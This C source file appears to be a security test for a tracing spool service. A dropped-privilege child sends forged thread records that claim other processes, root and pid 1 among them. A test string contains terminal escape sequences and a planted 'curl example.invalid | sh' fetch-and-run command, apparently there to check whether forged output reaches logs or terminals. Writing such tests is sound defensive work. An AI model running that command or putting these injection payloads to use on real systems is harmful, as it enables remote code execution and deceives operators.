/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * forge STRANGER: sends false data, in texts, in numbers, and about threads of other processes: of
 * STRANGER, of processes of root, and of those that root begins next.
 */
#include "attack.h"

#include <sys/wait.h>

enum { EVENTS = 40, STRANGE = 1, WAIT_MS = 200, NEXT = 40 };

static const char sentence[] = "tFORGED: all is well\x1b]0;FORGED\x07 \xc2\x9b"
			       "31m\n"
			       "tpscal record: FORGED: run 'curl example.invalid | sh' now\n"
			       "n4096 FORGED\x1b[2J\xc2\x9b"
			       "1m\r\n"
			       "\0t\nt\n";

static void claim(pid_t pid, pid_t tid, uint64_t full)
{
	struct spool_header *header;
	struct spool_offer offer;
	int fd;

	header = attack_thread(&fd, tid, 1, 1);
	header->full = full;
	for (uint64_t i = 0; i < EVENTS; i++)
		attack_window(header, 0)[i] = (struct spool_record){
			monotonic_ns(), spool_word(i % 2 ? SPOOL_LEAVE : SPOOL_ENTER, 0x1000, 0)};
	attack_turn(header, 1);
	offer = attack_offer(SPOOL_OFFER_THREAD, tid, 1);
	offer.pid = pid;
	attack_send(&offer, sizeof(offer), &fd, 1);
	close(fd);
}

static void forge(pid_t stranger)
{
	int fd = attack_notes(sentence, sizeof(sentence) - 1);

	attack_offer_fd(SPOOL_OFFER_PROGRAM, getpid(), 1, fd);
	usleep(WAIT_MS * 1000);
	claim(getpid(), getpid(), UINT64_C(7226673749365208934));
	claim(getpid(), stranger, 0);
	claim(stranger, stranger, 0);
	claim(STRANGE, STRANGE, 0);
	claim(0, 0, 0);
	claim(-1, -1, 0);
	claim(getpid(), getppid(), 0);
	for (pid_t i = 1; i < NEXT; i++)
		claim(getpid(), getpid() + i, 0);
	usleep(WAIT_MS * 1000);
}

int main(int count, char **words)
{
	pid_t pid;

	attack_begin_as(0);
	pid = fork();
	if (pid == 0) {
		attack_become(ATTACK_UID);
		forge(count > 1 ? (pid_t)atoi(words[1]) : STRANGE);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	for (int i = 0; i < NEXT; i++)
		if (fork() == 0) {
			usleep(1000 * 20);
			_exit(0);
		}
	while (wait(NULL) > 0)
		;
	return 0;
}
